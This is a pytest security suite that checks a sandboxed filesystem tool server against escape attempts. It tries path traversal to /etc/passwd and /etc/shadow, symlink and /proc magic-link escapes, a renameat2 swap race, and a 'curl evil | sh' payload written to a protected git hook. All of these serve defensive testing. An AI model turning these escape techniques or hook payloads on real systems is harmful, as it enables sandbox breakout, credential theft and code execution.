"""SECURITY-CASES 1-11: escape attempts against the fs.* tools, each run with the server as
root and as uid 65534 (setpriv). The attacker is the shell in an rw zone: it plants symlinks
and swaps folders on the host side of the zone (done here directly in the zone's folder, as
the sandbox would).

"Refused" means: an isError result with a clear message, the server still serving, and
nothing outside the zones read, written or left behind. Every file outside the zones holds a
unique canary string that must never appear in any answer, and the outside folders are
compared before and after (names, sizes, mtimes, contents). The outside folders are
world-readable and world-writable on purpose, so that for uid 65534 too only the kernel's
confinement (openat2 RESOLVE_BENEATH) stands between the tools and them."""
import ctypes
import hashlib
import importlib.util
import json
import multiprocessing
import os
import shutil
import subprocess
import tempfile
import time
import uuid

import pytest

HERE = os.path.dirname(os.path.abspath(__file__))
_spec = importlib.util.spec_from_file_location(
    "zb_integration_conftest", os.path.join(HERE, "..", "integration", "conftest.py"))
zbc = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(zbc)

NOBODY = 65534
CONFIG = """
sandbox:
  backend: "null"
  zones:
    - {name: app, mode: rw, hostPath: %(app)s, protect: [.git/hooks]}
    - {name: ro, mode: ro, hostPath: %(ro)s}
    - {name: procz, mode: ro, hostPath: /proc}
approval:
  default: allow
"""


def wrapper_for(uid, workdir, binary):
    path = os.path.join(workdir, "zonebox-as-%d" % uid)
    with open(path, "w") as f:
        f.write("#!/bin/sh\nexec setpriv --reuid=%d --regid=%d --clear-groups %s \"$@\"\n"
                % (uid, uid, binary))
    os.chmod(path, 0o755)
    return path


class Target:
    """Zones app (rw, .git/hooks protected) and ro, next to folders that must stay untouched:
    app-secrets (a sibling whose name starts like the zone's) and outside."""

    def __init__(self, uid):
        self.uid = uid
        self.token = "CANARY-" + uuid.uuid4().hex
        self.base = tempfile.mkdtemp(prefix="zb-attack-")
        os.chmod(self.base, 0o755)
        j = lambda *p: os.path.join(self.base, *p)
        self.app, self.ro = j("app"), j("ro")
        self.secrets, self.outside = j("app-secrets"), j("outside")
        for d in (self.app, self.ro, self.secrets, self.outside):
            os.mkdir(d)
        os.chmod(self.secrets, 0o777)
        os.chmod(self.outside, 0o777)
        for d, name in ((self.secrets, "x"), (self.outside, "canary.txt"),
                        (self.outside, "f")):
            with open(os.path.join(d, name), "w") as fh:
                fh.write("%s %s\n" % (self.token, name))
            os.chmod(os.path.join(d, name), 0o666)
        with open(os.path.join(self.ro, "data.txt"), "w") as fh:
            fh.write("read-only data\n")
        os.makedirs(os.path.join(self.app, ".git", "hooks"))
        with open(os.path.join(self.app, ".git", "hooks", "pre-commit"), "w") as fh:
            fh.write("#!/bin/sh\nexit 0\n")
        with open(os.path.join(self.app, "ok.txt"), "w") as fh:
            fh.write("fine\n")
        if uid:
            for root, dirs, files in os.walk(self.app):
                for n in dirs + files:
                    os.lchown(os.path.join(root, n), uid, uid)
            os.chown(self.app, uid, uid)
        self.cfg = j("zonebox.yaml")
        with open(self.cfg, "w") as fh:
            fh.write(CONFIG % {"app": self.app, "ro": self.ro})
        os.chmod(self.cfg, 0o644)
        self.before = self.snapshot()
        self.tmp_before = set(os.listdir("/tmp"))

    def plant(self, name, target):
        """A symlink the sandboxed shell could make: `ln -s target name` in the zone."""
        p = os.path.join(self.app, name)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        os.symlink(target, p)
        if self.uid:
            os.lchown(p, self.uid, self.uid)
        return p

    def snapshot(self):
        """What must not change: the ro zone, the sibling, the outside folder, and the
        protected folder of the rw zone."""
        state = {}
        for d in (self.ro, self.secrets, self.outside, os.path.join(self.app, ".git", "hooks")):
            for root, dirs, files in os.walk(d):
                for n in dirs + files:
                    p = os.path.join(root, n)
                    st = os.lstat(p)
                    digest = None
                    if os.path.isfile(p) and not os.path.islink(p):
                        digest = hashlib.sha256(open(p, "rb").read()).hexdigest()
                    state[p] = (st.st_mode, st.st_size, st.st_mtime_ns, digest)
            st = os.lstat(d)
            state[d] = (st.st_mode, st.st_mtime_ns)
        return state

    def assert_untouched(self):
        assert self.snapshot() == self.before
        new_tmp = set(os.listdir("/tmp")) - self.tmp_before
        new_tmp = {n for n in new_tmp if self.token in n}
        assert not new_tmp, new_tmp
        assert not [n for n in os.listdir("/tmp") if n.startswith("zb-escape-")]

    def cleanup(self):
        subprocess.run(["rm", "-rf", self.base])


class Attacker:
    def __init__(self, server, target):
        self.s = server
        self.t = target
        self.answers = 0

    def raw(self, name, args, timeout=30):
        r = self.s.call(name, args, timeout=timeout)
        text = json.dumps(r)
        assert self.t.token not in text, "outside content leaked: " + text[:500]
        self.answers += 1
        return r

    def refused(self, name, args, *words):
        r = self.raw(name, args)
        if "error" in r:  # a protocol-level refusal (invalid arguments) is clean too
            for w in words:
                assert w in r["error"]["message"], (w, r)
            return r["error"]["message"]
        res = r["result"]
        assert res["isError"] is True, (name, args, res)
        text = res["content"][0]["text"]
        assert text.startswith("fs."), text
        for w in words:
            assert w in text, (w, text)
        return text

    def plant(self, name, target):
        return self.t.plant(name, target)

    def ok(self, name, args):
        res = self.raw(name, args)["result"]
        assert res["isError"] is False, res
        return res["structuredContent"]

    def still_serving(self):
        assert self.s.request("ping")["result"] == {}
        assert self.ok("fs.read", {"path": "/app/ok.txt"})["content"] == "fine\n"


@pytest.fixture(params=["root", "nobody"])
def attack(request):
    if os.geteuid() != 0:
        if request.param == "root":
            pytest.skip("the root variant needs to run as root")
    if request.param == "nobody":
        if os.geteuid() != 0:
            pytest.skip("switching to uid %d needs root" % NOBODY)
        if not shutil.which("setpriv"):
            pytest.skip("setpriv (util-linux) is missing: cannot start the server as uid %d"
                        % NOBODY)
    uid = NOBODY if request.param == "nobody" else 0
    t = Target(uid)
    binary = os.path.abspath(zbc.BIN)
    old = zbc.BIN
    zbc.BIN = wrapper_for(uid, t.base, binary) if uid else binary
    try:
        s = zbc.Server(args=["--config", t.cfg], cwd=t.base)
    except BaseException:
        t.cleanup()
        raise
    finally:
        zbc.BIN = old
    s.initialize()
    with open("/proc/%d/status" % s.proc.pid) as fh:
        uids = [l.split()[1:] for l in fh if l.startswith("Uid:")][0]
    assert uids == [str(uid)] * 4, uids
    a = Attacker(s, t)
    yield a
    try:
        a.still_serving()
        t.assert_untouched()
    finally:
        problem = s.stop()
        t.cleanup()
    assert problem is None, problem


# ---------------------------------------------------------------- 1. ../ out of a zone

def test_case01_dotdot(attack):
    for p in ("/app/../../etc/passwd", "/app/../app-secrets/x", "../../etc/passwd",
              "/app/sub/../../../etc/passwd", "/app/.git/../../outside/canary.txt",
              "/app/" + "../" * 40 + "etc/passwd", "/ro/../app/ok.txt"):
        text = attack.refused("fs.read", {"path": p})
        assert "outside" in text or "does not exist" in text, text
        attack.refused("fs.list", {"path": p})
        attack.refused("fs.stat", {"path": p})
        attack.refused("fs.search", {"path": p, "content": "CANARY"})
    # Legit ".." that stays inside is fine.
    assert attack.ok("fs.read", {"path": "/app/.git/../ok.txt"})["content"] == "fine\n"


# ---------------------------------------------------------------- 2. absolute paths elsewhere

def test_case02_absolute_outside(attack):
    for p in ("/etc/passwd", "/proc/self/environ", "/proc/self/root/etc/passwd", "/",
              "//etc/passwd", "/tmp", attack.t.outside + "/canary.txt", "/dev/null"):
        attack.refused("fs.read", {"path": p}, "outside every zone" if p != "/" else "root")
    r = attack.ok("fs.read", {"paths": ["/etc/passwd", "/proc/self/environ", "/app/ok.txt"]})
    assert "outside every zone" in r["files"][0]["error"]
    assert "outside every zone" in r["files"][1]["error"]
    assert r["files"][2]["content"] == "fine\n"


# ---------------------------------------------------------------- 3. the sibling folder

def test_case03_sibling(attack):
    t = attack.t
    attack.plant("sib", "../app-secrets")
    attack.plant("sibabs", t.secrets)
    attack.plant("sibx", "../app-secrets/x")
    spellings = ["/app-secrets/x", "/app/../app-secrets/x", "/app//..//app-secrets/x",
                 "/app/./../app-secrets/x", "/app-/../app-secrets/x", "/app-secrets",
                 "/app/sib/x", "/app/sibabs/x", "/app/sibx", "sib/x", "sibx",
                 "/app/.git/../../app-secrets/x"]
    for p in spellings:
        attack.refused("fs.read", {"path": p})
        attack.refused("fs.list", {"path": p})
        attack.refused("fs.write", {"path": p, "content": "pwned"})
        attack.refused("fs.delete", {"path": p + "/..", "recursive": True})
    # Searching and listing the zone never walks into the sibling through the links.
    r = attack.ok("fs.search", {"path": "/app", "content": "CANARY"})
    assert r["matches"] == []
    r = attack.ok("fs.list", {"path": "/app", "depth": 5, "hidden": True})
    assert all(not e["path"].startswith("/app/sib/") for e in r["entries"])


# ---------------------------------------------------------------- 4. symlink to a host file

def test_case04_symlink_to_host_file(attack):
    t = attack.t
    attack.plant("s", "/etc/shadow")
    attack.plant("c", t.outside + "/canary.txt")
    attack.plant("rel", "../outside/canary.txt")
    attack.plant("deep/er/rel2", "../../../outside/canary.txt")
    for p in ("s", "c", "rel", "deep/er/rel2", "/app/c"):
        attack.refused("fs.read", {"path": p}, "outside zone app")
        attack.refused("fs.read", {"path": p, "tail": 1})
        attack.refused("fs.edit", {"path": p, "edits": [{"old": "CANARY", "new": "x"}]})
        attack.refused("fs.write", {"path": p, "content": "pwned"}, "symlink")
        attack.refused("fs.write", {"path": p, "content": "pwned", "mode": "append"})
        attack.refused("fs.search", {"path": p, "content": "CANARY"})
    files = attack.ok("fs.read", {"paths": ["s", "c", "ok.txt"]})["files"]
    assert "error" in files[0] and "error" in files[1] and files[2]["content"] == "fine\n"
    # fs.stat reports the link itself (its target is a name, not outside content).
    st = attack.ok("fs.stat", {"path": "c"})
    assert st["type"] == "symlink" and st["target"] == t.outside + "/canary.txt"
    # Deleting the link removes the link only.
    attack.ok("fs.delete", {"path": "c"})
    assert os.path.exists(t.outside + "/canary.txt")


# ---------------------------------------------------------------- 5. link -> /

def test_case05_link_to_root(attack):
    t = attack.t
    attack.plant("link", "/")
    attack.plant("rlink", "../../../../../../../../")
    name = "zb-escape-%s" % uuid.uuid4().hex
    outside_rel = t.outside.lstrip("/")
    for l in ("link", "rlink"):
        attack.refused("fs.write", {"path": "%s/tmp/%s" % (l, name), "content": "x"})
        attack.refused("fs.write", {"path": "%s/tmp/%s/y" % (l, name), "content": "x",
                                    "parents": True})
        attack.refused("fs.mkdir", {"path": "%s/tmp/%s" % (l, name), "parents": True})
        attack.refused("fs.move", {"source": "ok.txt", "destination": "%s/tmp/%s" % (l, name)})
        attack.refused("fs.delete", {"path": "%s/%s/canary.txt" % (l, outside_rel)})
        attack.refused("fs.delete", {"path": "%s/%s" % (l, outside_rel), "recursive": True})
        attack.refused("fs.edit", {"path": "%s/%s/canary.txt" % (l, outside_rel),
                                   "edits": [{"old": "CANARY", "new": "x"}]})
        attack.refused("fs.read", {"path": "%s/etc/passwd" % l})
        attack.refused("fs.list", {"path": "%s/etc" % l})
    assert not os.path.exists("/tmp/" + name)
    assert os.path.exists(os.path.join(t.app, "ok.txt"))


# ---------------------------------------------------------------- 6. dangling link out

def test_case06_dangling_link(attack):
    t = attack.t
    target = os.path.join(t.outside, "new-target")
    attack.plant("new", target)
    attack.plant("new2", "../outside/new2-target")
    for p in ("new", "new2"):
        for mode in ("overwrite", "create", "append"):
            attack.refused("fs.write", {"path": p, "content": "x", "mode": mode})
        attack.refused("fs.write", {"path": p, "content": "x", "parents": True})
        attack.refused("fs.edit", {"path": p, "edits": [{"old": "a", "new": "b"}]})
        attack.refused("fs.mkdir", {"path": p + "/sub", "parents": True})
        attack.refused("fs.read", {"path": p})
    assert not os.path.exists(target)
    assert not os.path.exists(os.path.join(t.outside, "new2-target"))
    assert os.path.islink(os.path.join(t.app, "new"))


# ---------------------------------------------------------------- 7. swapping race

RENAME_EXCHANGE = 2


def _swapper(race_dir, outside, stop, count):
    """Swap race/d (a real folder) and race/alt (a symlink to `outside`) atomically, as fast
    as possible, until told to stop; fall back to two renames without renameat2."""
    libc = ctypes.CDLL(None, use_errno=True)
    d = os.path.join(race_dir, "d").encode()
    alt = os.path.join(race_dir, "alt").encode()
    tmp = os.path.join(race_dir, "tmp").encode()
    AT_FDCWD = -100
    have_exchange = True
    n = 0
    while not stop.is_set():
        if have_exchange:
            r = libc.renameat2(AT_FDCWD, d, AT_FDCWD, alt, RENAME_EXCHANGE)
            if r != 0:
                have_exchange = False
                continue
        else:
            os.rename(d, tmp)
            os.rename(alt, d)
            os.rename(tmp, alt)
        n += 1
    count.value = n


def test_case07_swap_race(attack):
    t = attack.t
    race = os.path.join(t.app, "race")
    real = os.path.join(race, "d")
    os.makedirs(real)
    with open(os.path.join(real, "f"), "w") as fh:
        fh.write("inside\n")
    os.symlink(t.outside, os.path.join(race, "alt"))
    if t.uid:
        for p in (race, real, os.path.join(real, "f")):
            os.chown(p, t.uid, t.uid)
        os.lchown(os.path.join(race, "alt"), t.uid, t.uid)
    # Keep a handle on the real folder wherever the swaps put it.
    real_fd = os.open(real, os.O_RDONLY | os.O_DIRECTORY)
    stop = multiprocessing.Event()
    count = multiprocessing.Value("q", 0)
    proc = multiprocessing.Process(target=_swapper, args=(race, t.outside, stop, count))
    proc.start()
    reads_ok = refused = 0
    try:
        def batch(calls):
            """Pipeline a batch, so several run at once on the server's worker threads."""
            ids = []
            for name, args in calls:
                rid = attack.s.next_id
                attack.s.next_id += 1
                attack.s.send({"jsonrpc": "2.0", "id": rid, "method": "tools/call",
                               "params": {"name": name, "arguments": args}})
                ids.append(rid)
            out = {}
            while len(out) < len(ids):
                m = attack.s.recv_response(timeout=30)
                text = json.dumps(m)
                assert t.token not in text, "read outside the zone: " + text[:400]
                out[m["id"]] = m["result"]
            return [out[i] for i in ids]

        for _ in range(100):
            for res in batch([("fs.read", {"path": "/app/race/d/f"})] * 20):
                if res["isError"]:
                    refused += 1
                else:
                    assert res["structuredContent"]["content"] == "inside\n"
                    reads_ok += 1
        for i in range(25):
            calls = [("fs.write", {"path": "/app/race/d/w%d-%d" % (i, k), "content": "w"})
                     for k in range(10)]
            calls += [("fs.list", {"path": "/app/race/d"}),
                      ("fs.search", {"path": "/app/race", "content": "CANARY"}),
                      ("fs.stat", {"path": "/app/race/d/f"}),
                      ("fs.read", {"paths": ["/app/race/d/f", "/app/race/alt/f"]}),
                      ("fs.mkdir", {"path": "/app/race/d/m%d" % i, "parents": True}),
                      ("fs.edit", {"path": "/app/race/d/f",
                                   "edits": [{"old": "inside", "new": "inside"}]})]
            batch(calls)
        for i in range(30):
            # Put files back into the real folder, wherever the swaps have put it now, and
            # race deletes against the swaps.
            for name in ("f", "g"):
                fd = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644,
                             dir_fd=real_fd)
                os.write(fd, b"inside\n")
                os.close(fd)
            try:
                os.mkdir("sub", dir_fd=real_fd)
            except FileExistsError:
                pass
            sub_fd = os.open("sub", os.O_RDONLY | os.O_DIRECTORY, dir_fd=real_fd)
            os.close(os.open("x", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=sub_fd))
            os.close(sub_fd)
            if t.uid:
                for name in ("f", "g", "sub"):
                    os.chown(name, t.uid, t.uid, dir_fd=real_fd)
            batch([("fs.delete", {"path": "/app/race/d/f"}),
                   ("fs.delete", {"path": "/app/race/d/sub", "recursive": True}),
                   ("fs.move", {"source": "/app/race/d/g", "destination": "/app/race/d/g2",
                                "overwrite": True})])
    finally:
        stop.set()
        proc.join(10)
        os.close(real_fd)
    print("swaps %d, reads inside %d, refused %d" % (count.value, reads_ok, refused))
    assert count.value > 100, "the swapper hardly ran (%d swaps)" % count.value
    assert reads_ok + refused == 2000
    assert reads_ok > 0
    # Nothing was created in, or deleted from, the outside folder (checked again at teardown).
    assert sorted(os.listdir(t.outside)) == ["canary.txt", "f"]


# ---------------------------------------------------------------- 8. /proc magic links

def test_case08_proc_magic_links(attack):
    attack.plant("pr", "/proc/self/root")
    attack.plant("pfd", "/proc/self/fd/0")
    attack.plant("prel", "../" * 30 + "proc/self/root")
    for p in ("pr/etc/passwd", "pfd", "prel/etc/passwd", "/proc/self/root/etc/passwd",
              "/proc/1/fd/0", "/proc/self/fd/1"):
        attack.refused("fs.read", {"path": p})
        attack.refused("fs.write", {"path": p, "content": "x"})
    # A zone on /proc itself: its magic links are still never followed.
    for p in ("/procz/self/root/etc/passwd", "/procz/1/root/etc/passwd",
              "/procz/self/cwd/zonebox.yaml", "/procz/self/fd/0", "/procz/self/exe",
              "/procz/thread-self/root/etc/passwd", "/procz/self/root/" + attack.t.outside):
        attack.refused("fs.read", {"path": p})
        attack.refused("fs.list", {"path": p})
    attack.refused("fs.list", {"path": "/procz/self/root"})
    r = attack.ok("fs.search", {"path": "/procz/self/fd", "content": "CANARY"})
    assert r["matches"] == []


# ---------------------------------------------------------------- 9. read-only zone

def test_case09_ro_zone(attack):
    t = attack.t
    attack.plant("toro", "../ro")
    calls = [
        ("fs.write", {"path": "/ro/data.txt", "content": "x"}),
        ("fs.write", {"path": "/ro/new.txt", "content": "x"}),
        ("fs.write", {"path": "/ro/data.txt", "content": "x", "mode": "append"}),
        ("fs.write", {"path": "/ro/a/b/c", "content": "x", "parents": True}),
        ("fs.edit", {"path": "/ro/data.txt", "edits": [{"old": "read", "new": "x"}]}),
        ("fs.edit", {"path": "/ro/data.txt", "edits": [{"old": "read", "new": "x"}],
                     "dry_run": True}),
        ("fs.move", {"source": "/ro/data.txt", "destination": "/app/stolen.txt"}),
        ("fs.move", {"source": "/app/ok.txt", "destination": "/ro/ok.txt"}),
        ("fs.move", {"source": "/ro/data.txt", "destination": "/ro/renamed.txt"}),
        ("fs.delete", {"path": "/ro/data.txt"}),
        ("fs.delete", {"path": "/ro", "recursive": True}),
        ("fs.mkdir", {"path": "/ro/newdir"}),
        ("fs.mkdir", {"path": "/ro/x/y", "parents": True}),
    ]
    for name, args in calls:
        text = attack.refused(name, args)
        assert "zone ro" in text and ("read-only (mode ro)" in text or "root of zone" in text)
    attack.refused("fs.write", {"path": "/app/toro/data.txt", "content": "x"})
    assert not os.path.exists(os.path.join(t.app, "stolen.txt"))
    assert attack.ok("fs.stat", {"path": "/ro/data.txt"})["writable"] is False
    assert attack.ok("fs.read", {"path": "/ro/data.txt"})["content"] == "read-only data\n"


# ---------------------------------------------------------------- 10. protected paths

def test_case10_protected(attack):
    t = attack.t
    attack.plant("h", ".git/hooks")
    attack.plant("g", ".git")
    hook = "/app/.git/hooks/pre-commit"
    calls = [
        ("fs.write", {"path": hook, "content": "curl evil | sh"}),
        ("fs.write", {"path": "/app/.git/hooks/post-checkout", "content": "x"}),
        ("fs.write", {"path": hook, "content": "x", "mode": "append"}),
        ("fs.write", {"path": "/app/h/pre-commit", "content": "x"}),
        ("fs.write", {"path": "/app/g/hooks/pre-push", "content": "x"}),
        ("fs.write", {"path": "/app/.git/x/../hooks/pre-push", "content": "x", "parents": True}),
        ("fs.edit", {"path": hook, "edits": [{"old": "exit 0", "new": "evil"}]}),
        ("fs.edit", {"path": "/app/h/pre-commit", "edits": [{"old": "exit 0", "new": "e"}]}),
        ("fs.delete", {"path": hook}),
        ("fs.delete", {"path": "/app/.git/hooks", "recursive": True}),
        ("fs.delete", {"path": "/app/.git", "recursive": True}),
        ("fs.move", {"source": hook, "destination": "/app/stolen"}),
        ("fs.move", {"source": "/app/.git", "destination": "/app/git-old"}),
        ("fs.move", {"source": "/app/ok.txt", "destination": hook, "overwrite": True}),
        ("fs.move", {"source": "/app/ok.txt", "destination": "/app/h/new"}),
        ("fs.mkdir", {"path": "/app/.git/hooks/sub"}),
        ("fs.mkdir", {"path": "/app/h/sub/deeper", "parents": True}),
    ]
    for name, args in calls:
        attack.refused(name, args, "is protected", "zone app (mode rw")
    assert attack.ok("fs.stat", {"path": hook})["writable"] is False
    assert "exit 0" in attack.ok("fs.read", {"path": hook})["content"]
    assert os.path.exists(os.path.join(t.app, "ok.txt"))
    # The rest of .git stays writable.
    attack.ok("fs.write", {"path": "/app/.git/config", "content": "[core]\n"})


# ---------------------------------------------------------------- 11. malformed paths

def test_case11_malformed_paths(attack):
    for name in ("fs.read", "fs.write", "fs.stat", "fs.delete", "fs.mkdir", "fs.list"):
        args = {"content": "x"} if name == "fs.write" else {}
        attack.refused(name, dict(args, path="/app/ok.txt\u0000/../../etc/passwd"), "NUL")
        attack.refused(name, dict(args, path="/app/ok\u0000"), "NUL")
        attack.refused(name, dict(args, path="/app/" + "a" * 65536), "4096")
        attack.refused(name, dict(args, path="/app/" + "a/" * 3000), "4096")
        attack.refused(name, dict(args, path=""))  # minLength: invalid params
    attack.refused("fs.move", {"source": "/app/ok.txt", "destination": "/app/x\u0000y"}, "NUL")
    r = attack.ok("fs.read", {"paths": ["/app/a\u0000b", "/app/ok.txt"]})
    assert "NUL" in r["files"][0]["error"] and r["files"][1]["content"] == "fine\n"
    # Invalid UTF-8 cannot even be sent as JSON text: raw bytes and lone surrogates are a
    # parse error, and the server goes on.
    for raw in (b'{"jsonrpc":"2.0","id":"u1","method":"tools/call","params":{"name":"fs.read",'
                b'"arguments":{"path":"/app/\xff\xfe"}}}\n',
                b'{"jsonrpc":"2.0","id":"u2","method":"tools/call","params":{"name":"fs.read",'
                b'"arguments":{"path":"/app/\\udc80"}}}\n'):
        attack.s.send_raw(raw)
        m = attack.s.recv_response()
        assert "error" in m and m["error"]["code"] in (-32700, -32600, -32602), m
    attack.still_serving()
